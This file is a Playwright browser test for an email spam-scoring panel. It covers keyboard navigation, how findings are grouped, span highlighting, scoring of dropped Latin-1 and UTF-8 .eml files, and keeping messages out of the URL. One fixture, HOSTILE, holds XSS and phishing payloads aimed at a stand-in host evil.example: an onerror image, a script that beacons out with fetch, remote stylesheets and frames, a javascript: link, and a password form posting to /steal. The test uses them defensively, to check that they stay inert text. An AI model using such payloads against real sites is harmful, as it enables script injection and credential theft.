// Browser test of the Message score panel of the page (www/) in headless Chromium through
// playwright-core: the tab and the keyboard, both examples rendered field by field against
// scoreMessage itself (the verdict in words, the findings grouped by category, the parsed message,
// whose tables are closed sections built when opened), a finding's span marked in the message when
// it is focused and selected when it is clicked, a hostile message that must stay text (no <img>,
// <script> or link of it in the DOM, no request leaving the origin), a dropped and an opened .eml
// scored from its bytes (a Latin-1 file with CRLF line breaks keeps its charset and its marks land
// on the right text), the fragment that names only the tab, Copy as JSON, Clear, the dark theme and
// no inline styles.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";

import { SKIP, launch, waitReady, readBackdrop as readBackdropAt } from "./helpers.mjs";
import { scoreMessage, scoreMessageBytes } from "../../pkg/node.mjs";

let harness;
let origin;

before(async () => {
  if (SKIP) return;
  harness = await launch();
  ({ origin } = harness);
});

after(async () => {
  await harness?.close();
});

const readBackdrop = (page) => readBackdropAt(page, "#score-backdrop");
/** The mirror's text for a textarea's (a final line break gets a character after it). */
const mirrored = (text) => (text.endsWith("\n") ? `${text} ` : text);

/** The report as the page shows it. */
function readScore(page) {
  return page.$eval("#score-results", (root) => {
    const value = (scope, name) => {
      const node = scope?.querySelector(`[data-field="${name}"]`);
      if (!node) return undefined;
      return node.hasAttribute("data-null") ? null : node.textContent;
    };
    const verdict = root.querySelector('[data-field="verdict"]');
    const table = (field) => {
      const t = root.querySelector(`table[data-field="${field}"]`);
      if (!t) return null;
      return {
        caption: t.querySelector("caption").textContent,
        head: [...t.querySelectorAll("thead th")].map((th) => th.textContent),
        rows: [...t.querySelectorAll("tbody tr")].map((tr) => [...tr.children].map((c) => c.textContent)),
      };
    };
    const tree = (list, depth = 0) =>
      [...list.children].flatMap((li) => {
        const nested = li.querySelector(":scope > ol.mime-tree");
        const own = li.dataset.path === undefined ? [] : [{ path: li.dataset.path, depth, domDepth: Number(li.dataset.depth), contentType: value(li, "contentType"), text: [...li.childNodes].filter((n) => n.nodeName !== "OL").map((n) => n.textContent).join("") }];
        return [...own, ...(nested ? tree(nested, depth + 1) : [])];
      });
    return {
      verdict: verdict?.dataset.value ?? null,
      verdictText: verdict?.textContent ?? null,
      score: root.querySelector('[data-field="score"]')?.dataset.value ?? null,
      groups: [...root.querySelectorAll("section.finding-group")].map((g) => ({
        category: g.dataset.category,
        heading: g.querySelector("h4").textContent,
        findings: [...g.querySelectorAll("li.finding")].map((li) => ({
          rule: li.dataset.rule,
          category: li.dataset.category,
          severity: li.dataset.severity,
          points: value(li, "points"),
          ruleText: value(li, "rule"),
          message: value(li, "message"),
          help: value(li, "help"),
          evidence: [...li.querySelectorAll("li.evidence-item")].map((e) => e.textContent),
        })),
      })),
      diagnostics: [...root.querySelectorAll("#score-diagnostics .diagnostic")].map((d) => d.dataset.code),
      subject: value(root, "subject"),
      from: value(root, "from"),
      fromName: value(root, "fromName"),
      textSize: root.querySelector('[data-field="textSize"]')?.dataset.value ?? null,
      htmlSize: root.querySelector('[data-field="htmlSize"]')?.dataset.value ?? null,
      headers: table("headers"),
      parts: root.querySelector('ol[data-field="parts"]') ? tree(root.querySelector('ol[data-field="parts"]')) : null,
      preview: value(root, "textPreview"),
      links: table("links"),
      images: table("images"),
      attachments: table("attachments"),
      noneListed: [...root.querySelectorAll(".none-listed")].map((p) => p.textContent),
      placeholder: root.querySelector(".placeholder")?.textContent ?? null,
    };
  });
}

const formatPoints = (n) => {
  const rounded = Math.round(n * 100) / 100;
  return rounded > 0 ? `+${rounded}` : String(rounded);
};
const formatScore = (n) => {
  const fixed = (Math.round(n * 100) / 100).toFixed(2);
  return fixed.endsWith("0") ? fixed.slice(0, -1) : fixed;
};

/**
 * Opens the closed sections of "The message" (headers, MIME structure, text preview, links, images,
 * attachments: <details> whose contents are built when opened) as a reader would, by clicking their
 * summaries; they stay open through later renders. Returns the keys of the sections it opened.
 */
function openMessageSections(page) {
  return page.$$eval("#score-results details.message-section:not([open]) > summary", (summaries) =>
    summaries.map((summary) => {
      summary.click();
      return summary.parentElement.dataset.section;
    }),
  );
}

/** The page's rendering of its own textarea equals `report`, field by field (with the sections of
 * the message opened). */
async function assertPageMatches(page, report) {
  await openMessageSections(page);
  const view = await readScore(page);
  assert.equal(view.verdict, report.verdict);
  assert.equal(view.score, String(report.score));
  const words = report.verdict === "spam" ? "Spam" : "Not spam (ham)";
  const relation = report.verdict === "spam" ? "at or above" : "below";
  assert.equal(view.verdictText, `${words}: ${formatScore(report.score)} points, ${relation} the threshold of ${formatScore(report.threshold)}`, "the verdict is readable without colour");

  // Grouped by category, the categories in the order of their first finding; within a group the
  // API's order (most points first).
  const order = [...new Set(report.findings.map((f) => f.category))];
  assert.deepEqual(view.groups.map((g) => g.category), order);
  for (const group of view.groups) {
    const expected = report.findings.filter((f) => f.category === group.category);
    assert.match(group.heading, new RegExp(`\\(${expected.length} findings?, `));
    assert.deepEqual(
      group.findings.map((f) => [f.rule, f.category, f.ruleText, f.points, f.message, f.help]),
      expected.map((f) => [f.rule, f.category, f.rule, formatPoints(f.points), f.message, f.help]),
      `the ${group.category} group`,
    );
    for (const [i, f] of group.findings.entries()) assert.equal(f.evidence.length, expected[i].evidence.length, `${f.rule}: every piece of evidence`);
  }
  assert.deepEqual(view.diagnostics, report.diagnostics.map((d) => d.code));

  const s = report.summary;
  assert.equal(view.subject, s.subject);
  assert.equal(view.from, s.from);
  assert.equal(view.fromName ?? null, s.fromName);
  assert.equal(view.textSize, String(s.textSize));
  assert.equal(view.htmlSize, String(s.htmlSize));
  assert.deepEqual(view.headers.rows.map((r) => [r[1], r[2]]), s.headers.map((h) => [h.name, h.value]));
  assert.equal(view.headers.caption, `Headers (${s.headers.length})`);
  assert.deepEqual(view.parts.map((p) => [p.path, p.depth, p.domDepth, p.contentType]), s.parts.map((p) => [p.path, p.depth, p.depth, p.contentType]), "the MIME tree, one nested list per depth");
  assert.equal(view.preview, s.textPreview === "" ? null : s.textPreview);
  const text = (v) => (v === null || v === "" ? "—" : String(v));
  if (s.links.length === 0) assert.ok(view.noneListed.includes("No links."));
  else assert.deepEqual(view.links.rows.map((r) => r.slice(1)), s.links.map((l) => [text(l.text), l.href, text(l.domain), l.part]));
  if (s.images.length === 0) assert.ok(view.noneListed.includes("No images."));
  else assert.deepEqual(view.images.rows.map((r) => [r[1], r[2]]), s.images.map((i) => [i.src, text(i.alt)]));
  if (s.attachments.length === 0) assert.ok(view.noneListed.includes("No attachments."));
  else assert.deepEqual(view.attachments.rows.map((r) => [r[1], r[2], r[4]]), s.attachments.map((a) => [text(a.filename), a.contentType, a.part]));
  return view;
}

async function waitForVerdict(page, verdict, marker) {
  await page.waitForFunction(
    ([v, m]) => {
      const root = document.getElementById("score-results");
      return root.querySelector('[data-field="verdict"]')?.dataset.value === v && (!m || root.textContent.includes(m));
    },
    [verdict, marker],
    { timeout: 10_000 },
  );
}

/** The fragment names only the tab, and the address holds nothing of the message. */
async function assertFragmentHasNoMessage(page, text) {
  assert.equal(await page.evaluate(() => location.hash), "#tool=score", "the fragment keeps only the tab");
  const url = decodeURIComponent(page.url());
  for (const piece of text.split(/[\s<>;:,"=]+/).filter((w) => w.length >= 6)) {
    assert.ok(!url.includes(piece), `the address holds nothing of the message (${piece})`);
  }
}

/** Drops a file with `bytes` (an array of numbers) on the element `selector`. */
async function dropFile(page, selector, name, bytes) {
  const target = await page.$(selector);
  const dataTransfer = await page.evaluateHandle(
    ([n, b]) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(b)], n, { type: "message/rfc822" }));
      return dt;
    },
    [name, bytes],
  );
  await target.dispatchEvent("dragenter", { dataTransfer });
  await target.dispatchEvent("dragover", { dataTransfer });
  const dragging = await page.$eval("#panel-score", (p) => p.classList.contains("dragging"));
  await target.dispatchEvent("drop", { dataTransfer });
  return dragging;
}

// A Latin-1 message with CRLF line breaks: the subject in capitals with 8-bit letters.
const LATIN1 = [
  "From: =?iso-8859-1?q?Ren=E9?= <rene@example.com>",
  "To: a@example.org",
  "Subject: CAF\u00c9 CR\u00c8ME GRATUIT POUR TOUS",
  "Date: Mon, 13 Jan 2025 10:04:50 +0000",
  "Message-ID: <1@example.com>",
  "MIME-Version: 1.0",
  "Content-Type: text/plain; charset=iso-8859-1",
  "Content-Transfer-Encoding: 8bit",
  "",
  "Un caf\u00e9 cr\u00e8me co\u00fbte deux euros, \u00e0 la terrasse.",
  "",
].join("\r\n");
const LATIN1_BYTES = Uint8Array.from(LATIN1, (c) => c.charCodeAt(0));

const HOSTILE = [
  "From: Attacker <a@evil.example>",
  "To: victim@example.org",
  'Subject: <img src="https://evil.example/subject.gif" onerror="document.body.dataset.pwned=1">',
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  "<html><head><link rel=stylesheet href=https://evil.example/x.css><style>@import url(https://evil.example/y.css);</style></head><body>",
  "<p>Hello <img src=https://evil.example/x.gif><script>document.body.dataset.pwned='1';fetch('https://evil.example/beacon')</script></p>",
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>',
  '<p><a href="https://evil.example/login">Log in to your bank</a> <a href="javascript:alert(1)">x</a></p>',
  '<form action="https://evil.example/steal"><input name=password></form>',
  "</body></html>",
  "",
].join("\n");

test("Message score panel: examples, findings by category, marks, hostile HTML, dropped files, no message in the link", { timeout: 180_000 }, async (t) => {
  if (SKIP) {
    t.skip(SKIP);
    return;
  }
  const page = await harness.newPage();
  await page.goto(`${origin}/`);
  await waitReady(page);
  const historyLength = await page.evaluate(() => history.length);

  await t.test("the tab is keyboard-operable and the fragment names only the tab", async () => {
    assert.equal(await page.isVisible("#panel-score"), false, "the panel starts hidden");
    await page.focus("#tab-record");
    await page.keyboard.press("ArrowRight");
    assert.equal(await page.getAttribute("#tab-score", "aria-selected"), "true");
    assert.equal(await page.evaluate(() => document.activeElement.id), "tab-score", "focus follows the arrow key");
    assert.deepEqual(await page.$$eval('[role="tab"]', (tabs) => tabs.map((x) => x.tabIndex)), [-1, -1, 0, -1], "roving tabindex");
    assert.equal(await page.isVisible("#panel-score"), true);
    assert.equal(await page.isVisible("#panel-record"), false);
    assert.equal(await page.getAttribute("#panel-score", "aria-labelledby"), "tab-score");
    assert.equal(await page.evaluate(() => location.hash), "#tool=score");
    assert.ok((await page.$eval('label[for="score-input"]', (l) => l.textContent.trim())).length > 0, "the textarea has a label");
    assert.equal(await page.getAttribute("#score-results", "aria-live"), "polite");
    assert.match(await page.getAttribute("#score-input", "aria-describedby"), /score-privacy/);
    assert.match(await page.textContent("#panel-score"), /Messages are not put in the link/);
    assert.equal(await page.isDisabled("#score-copy"), true, "nothing to copy yet");
    assert.match(await page.textContent("#score-results .placeholder"), /Paste a message/);
    // Tab order: the textarea, then the buttons.
    await page.focus("#score-input");
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement.id), "score-run");
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement.id), "score-open", "the file button follows Score");
  });

  await t.test("the spammy example: spam in words, findings grouped by category, the parsed message", async () => {
    await page.click('button[data-score-example="spammy"]');
    await waitForVerdict(page, "spam", "links/shortener");
    const text = await page.inputValue("#score-input");
    // What the example is made of.
    assert.match(text, /^Subject: [A-Z !]+$/m, "a subject in capitals");
    assert.match(text, /^Content-Type: text\/html/m, "HTML only");
    assert.doesNotMatch(text, /text\/plain/);
    assert.match(text, /<a href="https:\/\/bit\.ly\/[^"]+">https:\/\/www\.paypal\.com\/[^<]*<\/a>/, "a shortener behind text that shows another domain");

    // The parsed message's long parts are closed disclosures, built only when opened.
    const sections = () =>
      page.$$eval("#score-results details.message-section", (list) =>
        list.map((d) => ({ key: d.dataset.section, open: d.open, summary: d.querySelector(":scope > summary").textContent, built: d.children.length > 1 })),
      );
    const scored = scoreMessage(text);
    assert.deepEqual(await sections(), [
      { key: "headers", open: false, summary: `Headers (${scored.summary.headers.length})`, built: false },
      { key: "parts", open: false, summary: "MIME structure (1 part)", built: false },
      { key: "preview", open: false, summary: "Text preview", built: false },
      { key: "links", open: false, summary: "Links (1), shown as text", built: false },
      { key: "images", open: false, summary: "Images (1), not loaded", built: false },
    ]);
    assert.equal(await page.$$eval("#score-results table", (t) => t.length), 0, "no table before a section is opened");
    // The summary is the keyboard control: Enter opens the section with its contents.
    await page.focus('#score-results details[data-section="headers"] > summary');
    await page.keyboard.press("Enter");
    assert.deepEqual(await page.$eval('#score-results details[data-section="headers"]', (d) => [d.open, d.querySelectorAll('table[data-field="headers"] tbody tr').length]), [true, scored.summary.headers.length]);
    await page.keyboard.press("Enter");
    assert.equal(await page.$eval('#score-results details[data-section="headers"]', (d) => d.open), false, "Enter closes it again");
    // Opened programmatically (no click), the contents are built on "toggle".
    await page.$eval('#score-results details[data-section="parts"]', (d) => {
      d.open = true;
    });
    await page.waitForSelector('#score-results details[data-section="parts"] ol[data-field="parts"]');
    // An opened section stays open (and built) when the message is scored again.
    await page.click("#score-run");
    await page.waitForFunction(() => document.querySelector('#score-results details[data-section="parts"]')?.open === true && document.querySelector('#score-results ol[data-field="parts"]') !== null);
    assert.equal(await page.$eval('#score-results details[data-section="headers"]', (d) => d.open), false, "a closed one stays closed");
    const report = scoreMessage(text);
    const view = await assertPageMatches(page, report);
    const rulesShown = view.groups.flatMap((g) => g.findings.map((f) => f.rule));
    for (const rule of ["structure/html-only", "links/shortener", "links/text-domain-mismatch", "wording/subject-caps"]) {
      assert.ok(rulesShown.includes(rule), `${rule} is shown (${rulesShown.join(", ")})`);
    }
    const links = view.groups.find((g) => g.category === "links");
    assert.equal(links.heading.startsWith("Links"), true);
    assert.deepEqual(links.findings.map((f) => f.severity), ["error", "warning"], "2.5 points read as an error, 1 as a warning");
    assert.equal(view.links.caption, "Links (1), shown as text");
    assert.deepEqual(view.links.rows[0].slice(1), ["https://www.paypal.com/claim", "https://bit.ly/3xAmPlE", "bit.ly", "1"]);
    assert.equal(view.images.caption, "Images (1), not loaded");
    // Nothing of the message is an element: no link, no image.
    assert.equal(await page.$$eval("#score-results a, #panel-score img", (n) => n.length), 0);
    assert.equal(await page.isDisabled("#score-copy"), false);
    await assertFragmentHasNoMessage(page, text);
  });

  await t.test("focusing a finding marks its span in the message; clicking selects it", async () => {
    const text = await page.inputValue("#score-input");
    const report = scoreMessage(text);
    const caps = report.findings.find((f) => f.rule === "wording/subject-caps");
    const index = report.findings.indexOf(caps);
    const { loc } = caps.evidence[0].span;
    const backdrop = await readBackdrop(page);
    assert.equal(backdrop.text, mirrored(text), "the mirror holds the textarea's text");
    const located = report.findings.flatMap((f) => f.evidence.filter((e) => e.span?.loc));
    assert.equal(backdrop.marks.length, located.length, "one mark per located piece of evidence (none overlap here)");
    const mark = backdrop.marks.find((m) => m.codes.split(" ").includes("wording/subject-caps"));
    assert.deepEqual([mark.start, mark.end], [loc.utf16Start, loc.utf16End]);
    assert.match(mark.text, /^Subject: YOU HAVE WON/);
    assert.match(mark.className, /sev-warning/);

    const item = `#score-results li.finding[data-rule="wording/subject-caps"]`;
    const isActive = () => page.$eval(`#score-backdrop mark[data-diags~="f${index}"]`, (m) => m.classList.contains("active"));
    assert.equal(await isActive(), false);
    // Keyboard: Tab to the finding's location button (focus marks the span), Enter selects it.
    await page.focus("#score-input");
    let guard = 0;
    while (!(await page.evaluate((sel) => document.querySelector(sel).contains(document.activeElement), item)) && guard++ < 200) await page.keyboard.press("Tab");
    assert.ok(guard < 200, "the finding's button is reachable with Tab");
    assert.equal(await isActive(), true, "focus marks the span");
    await page.keyboard.press("Enter");
    assert.deepEqual(await page.$eval("#score-input", (ta) => [ta.selectionStart, ta.selectionEnd, document.activeElement === ta]), [loc.utf16Start, loc.utf16End, true]);
    assert.equal(await isActive(), false, "the mark ends with the focus");
    // Hovering marks it too; clicking the finding's text selects the span.
    await page.hover(`${item} .message`);
    assert.equal(await isActive(), true);
    await page.$eval("#score-input", (ta) => ta.setSelectionRange(0, 0));
    await page.click(`${item} .message`);
    assert.deepEqual(await page.$eval("#score-input", (ta) => [ta.selectionStart, ta.selectionEnd]), [loc.utf16Start, loc.utf16End]);
    // An evidence's MIME part selects that part.
    await page.click('#score-results li.finding[data-rule="links/shortener"] li.evidence-item button');
    const part = report.summary.parts.find((p) => p.path === "1").span.loc;
    assert.deepEqual(await page.$eval("#score-input", (ta) => [ta.selectionStart, ta.selectionEnd]), [part.utf16Start, part.utf16End]);
    // A header's name selects the field (in the headers section, opened).
    await openMessageSections(page);
    await page.click('#score-results tr.header-field[data-name="Subject"] button');
    const subject = report.summary.headers.find((h) => h.name === "Subject").span.loc;
    assert.deepEqual(await page.$eval("#score-input", (ta) => [ta.selectionStart, ta.selectionEnd]), [subject.utf16Start, subject.utf16End]);
  });

  await t.test("the clean newsletter example: ham, one-click unsubscribe and aligned DKIM", async () => {
    await page.click('button[data-score-example="bulk"]');
    await waitForVerdict(page, "ham", "multipart/alternative");
    const text = await page.inputValue("#score-input");
    assert.match(text, /^List-Unsubscribe: <https:\/\//m);
    assert.match(text, /^List-Unsubscribe-Post: List-Unsubscribe=One-Click$/m);
    assert.match(text, /^DKIM-Signature: .*d=example\.com;/m);
    assert.match(text, /^From: .*@example\.com>$/m);
    assert.match(text, /h=from:.*list-unsubscribe:\n list-unsubscribe-post:/, "the signature covers both fields");
    const report = scoreMessage(text);
    const view = await assertPageMatches(page, report);
    assert.ok(report.score < 1, `score ${report.score}`);
    assert.deepEqual(view.groups.map((g) => g.category).filter((c) => c === "bulk" || c === "auth"), [], "no bulk or authentication finding");
    assert.deepEqual(view.parts.map((p) => [p.path, p.depth]), [["1", 0], ["1.1", 1], ["1.2", 1]]);
    assert.match(view.parts[1].text, /text\/plain, charset utf-8, encoding quoted-printable, \d+ bytes/);
    assert.ok(view.noneListed.includes("No attachments."));
    assert.match(view.verdictText, /^Not spam \(ham\): /);
  });

  await t.test("a hostile message stays text: no element of it, nothing requested", async () => {
    await page.fill("#score-input", HOSTILE);
    await waitForVerdict(page, scoreMessage(HOSTILE).verdict, "evil.example/x.gif");
    const report = scoreMessage(HOSTILE);
    await assertPageMatches(page, report);
    const elements = await page.evaluate(() => ({
      img: document.querySelectorAll("img").length,
      scripts: [...document.querySelectorAll("script")].map((s) => s.getAttribute("src")),
      // Elements the message has (the page's own forms and stylesheet link are not in these places).
      frames: document.querySelectorAll("iframe, object, embed, style, link[href*='evil'], #score-results form, #score-results input, #score-backdrop *:not(mark)").length,
      anchors: [...document.querySelectorAll("a")].map((a) => a.getAttribute("href")).filter((h) => h.includes("evil") || h.startsWith("javascript")),
      pwned: document.body.dataset.pwned ?? null,
    }));
    assert.deepEqual(elements, { img: 0, scripts: ["main.js"], frames: 0, anchors: [], pwned: null });
    const shown = await page.textContent("#score-results");
    for (const url of ["https://evil.example/x.gif", "https://evil.example/login"]) assert.ok(shown.includes(url), `${url} is listed as text`);
    assert.equal((await readBackdrop(page)).text, mirrored(HOSTILE), "the mirror is text only");
    for (const rule of ["structure/script", "links/form"]) assert.ok(report.findings.some((f) => f.rule === rule), rule);
    // Give anything that would load a chance to, then check nothing left the origin.
    await page.waitForTimeout(300);
    assert.deepEqual(harness.requests.filter((u) => u.includes("evil.example")), [], "no request for the message's URLs");
    assert.deepEqual(harness.foreign, []);
    await assertFragmentHasNoMessage(page, HOSTILE);
  });

  await t.test("a dropped Latin-1 .eml with CRLF is scored from its bytes; marks land on its text", async () => {
    assert.throws(() => new TextDecoder("utf-8", { fatal: true }).decode(LATIN1_BYTES), "the file is not UTF-8");
    assert.equal(await dropFile(page, "#score-input", "latin1.eml", [...LATIN1_BYTES]), true, "the panel shows it is a drop target");
    await page.waitForFunction(() => document.getElementById("score-status").textContent.startsWith("Loaded latin1.eml"));
    assert.match(await page.textContent("#score-status"), /ISO-8859-1.*scored from the file's bytes/);
    assert.equal(await page.$eval("#panel-score", (p) => p.classList.contains("dragging")), false, "the drop-target look ends with the drop");
    const text = await page.inputValue("#score-input");
    assert.equal(text, LATIN1.replace(/\r\n/g, "\n"), "the textarea holds the file (line breaks as LF)");
    const report = scoreMessageBytes(LATIN1_BYTES);
    await waitForVerdict(page, report.verdict, "Un café crème");
    const view = await assertPageMatches(page, report);
    assert.equal(view.preview.trimEnd(), "Un café crème coûte deux euros, à la terrasse.", "the legacy charset survived");
    assert.notEqual(scoreMessage(text).summary.textPreview, report.summary.textPreview, "(the text alone would not keep it)");
    assert.equal(view.fromName, "René");
    // The report's byte offsets count CRs; the marks are placed on the textarea's text.
    const marks = (await readBackdrop(page)).marks;
    const caps = marks.find((m) => m.codes.split(" ").includes("wording/subject-caps"));
    assert.match(caps.text, /^Subject: CAFÉ CRÈME GRATUIT POUR TOUS/);
    await page.click('#score-results li.finding[data-rule="wording/subject-caps"] li.evidence-item button');
    const selected = await page.$eval("#score-input", (ta) => ta.value.slice(ta.selectionStart, ta.selectionEnd));
    assert.match(selected, /^Subject: CAFÉ CRÈME GRATUIT POUR TOUS/);
    await assertFragmentHasNoMessage(page, text);

    // Editing the text makes the text the message (and the status says nothing of the file now).
    await page.focus("#score-input");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("Merci.");
    await page.waitForFunction(() => document.getElementById("score-status").textContent === "");
    await page.waitForFunction(() => document.querySelector('#score-results [data-field="textPreview"]')?.textContent.includes("Merci."));
    await assertPageMatches(page, scoreMessage(await page.inputValue("#score-input")));
  });

  await t.test("a UTF-8 .eml dropped on the heading, and one opened with the file input", async () => {
    const message = ["From: Zoë <zoe@example.com>", "To: a@example.org", "Subject: ÉNORME PROMOTION ŒUVRES", "Message-ID: <2@example.com>", "Date: Mon, 13 Jan 2025 10:04:50 +0000", "", "Bonjour, voilà.", ""].join("\r\n");
    const bytes = new TextEncoder().encode(message);
    await dropFile(page, "#score-heading", "utf8.eml", [...bytes]);
    await page.waitForFunction(() => /^Loaded utf8\.eml .*UTF-8/.test(document.getElementById("score-status").textContent));
    const report = scoreMessageBytes(bytes);
    await waitForVerdict(page, report.verdict, "voilà");
    await assertPageMatches(page, report);
    const caps = (await readBackdrop(page)).marks.find((m) => m.codes.split(" ").includes("wording/subject-caps"));
    assert.match(caps.text, /^Subject: ÉNORME PROMOTION ŒUVRES/, "UTF-16 locations without the CRs");

    await page.setInputFiles("#score-file", { name: "opened.eml", mimeType: "message/rfc822", buffer: Buffer.from(LATIN1_BYTES) });
    await page.waitForFunction(() => document.getElementById("score-status").textContent.startsWith("Loaded opened.eml"));
    await waitForVerdict(page, scoreMessageBytes(LATIN1_BYTES).verdict, "Un café crème");
  });

  await t.test("Copy as JSON puts the report on the clipboard", async () => {
    await page.click('button[data-score-example="spammy"]');
    await waitForVerdict(page, "spam", "links/shortener");
    await page.click("#score-copy");
    await page.waitForFunction(() => document.getElementById("score-status").textContent.startsWith("Copied"));
    const copied = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
    assert.deepEqual(copied, JSON.parse(JSON.stringify(scoreMessage(await page.inputValue("#score-input")))));
    assert.equal(copied.verdict, "spam");
  });

  await t.test("the fragment never carries a message; a link, tab switches and a reload", async () => {
    const shared = await harness.newPage();
    await shared.goto(`${origin}/#tool=score&message=${encodeURIComponent("From: a@example.com\n\nsecret")}`);
    await waitReady(shared);
    assert.equal(await shared.getAttribute("#tab-score", "aria-selected"), "true");
    assert.equal(await shared.inputValue("#score-input"), "");
    assert.equal(await shared.evaluate(() => location.hash), "#tool=score", "anything besides the tab is dropped");
    await shared.close();

    const before = await page.inputValue("#score-input");
    await page.click("#tab-record");
    assert.equal(await page.evaluate(() => location.hash), "#tool=record");
    await page.click("#tab-score");
    assert.equal(await page.evaluate(() => location.hash), "#tool=score");
    assert.equal(await page.inputValue("#score-input"), before, "the message stays in the textarea");
    await page.evaluate(() => {
      location.hash = "#tool=bounce"; // the six-tab page's bounce decoder: the SMTP error / bounce tool now
    });
    await page.waitForFunction(() => document.getElementById("tab-smtp").getAttribute("aria-selected") === "true");
    await page.evaluate(() => {
      location.hash = "#tool=score";
    });
    await page.waitForFunction(() => document.getElementById("tab-score").getAttribute("aria-selected") === "true");
    assert.equal(await page.inputValue("#score-input"), before);
    await page.reload();
    await waitReady(page);
    assert.equal(await page.getAttribute("#tab-score", "aria-selected"), "true", "a reload comes back to the tab");
    assert.equal(await page.inputValue("#score-input"), "", "the message is not restored from the address");
    assert.ok((await page.evaluate(() => history.length)) <= historyLength + 2, "scoring adds no history entries");
  });

  await t.test("no inline styles; the dark theme applies; Clear empties the panel", async () => {
    await page.click('button[data-score-example="spammy"]');
    await waitForVerdict(page, "spam", "links/shortener");
    assert.equal(await page.$$eval("[style]", (n) => n.length), 0, "no inline style attributes (the CSP forbids them)");
    const colours = () =>
      page.evaluate(() => ({
        verdict: getComputedStyle(document.querySelector('#score-results [data-field="verdict"]')).backgroundColor,
        finding: getComputedStyle(document.querySelector("#score-results li.finding")).backgroundColor,
        mark: getComputedStyle(document.querySelector("#score-backdrop mark")).backgroundColor,
        summary: getComputedStyle(document.querySelector("#score-results .message-summary")).backgroundColor,
      }));
    await page.emulateMedia({ colorScheme: "light" });
    const light = await colours();
    await page.emulateMedia({ colorScheme: "dark" });
    const dark = await colours();
    for (const key of Object.keys(light)) assert.notEqual(light[key], dark[key], key);
    await page.emulateMedia({ colorScheme: "light" });

    await page.click("#score-clear");
    assert.equal(await page.inputValue("#score-input"), "");
    assert.equal(await page.isDisabled("#score-copy"), true);
    assert.equal((await readBackdrop(page)).marks.length, 0);
    assert.match(await page.textContent("#score-results .placeholder"), /Paste a message/);
    assert.equal(await page.evaluate(() => location.hash), "#tool=score");
  });

  await page.close();
  harness.assertClean();
});
